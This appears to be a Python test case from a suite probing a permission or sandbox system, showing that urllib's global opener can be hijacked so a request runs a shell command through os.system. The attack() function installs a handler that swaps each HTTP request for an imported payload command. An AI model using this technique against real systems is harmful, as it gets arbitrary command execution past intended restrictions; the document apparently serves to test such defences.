"""A handler in the application's opener opens with a function of C."""
CATEGORY = "callable"
REACH = "run"
BEYOND = (
    "A handler is an object of the application's opener as any other, and a "
    "bare C function has no author. List __main__ in $permissions to restrict "
    "it.")

import os
import urllib.request

from . import payload


class Request(str):
    data = timeout = None
    full_url = host = "free"
    type = "http"
    headers = {}

    def get_method(self):
        return "GET"


class Processor(urllib.request.BaseHandler):
    handler_order = 9000

    def http_request(self, request):
        return Request(payload.COMMAND)


class Handler:
    default_open = os.system


def attack():
    opener = urllib.request._opener
    opener.add_handler(Processor())
    opener.handle_open["default"] = [Handler]
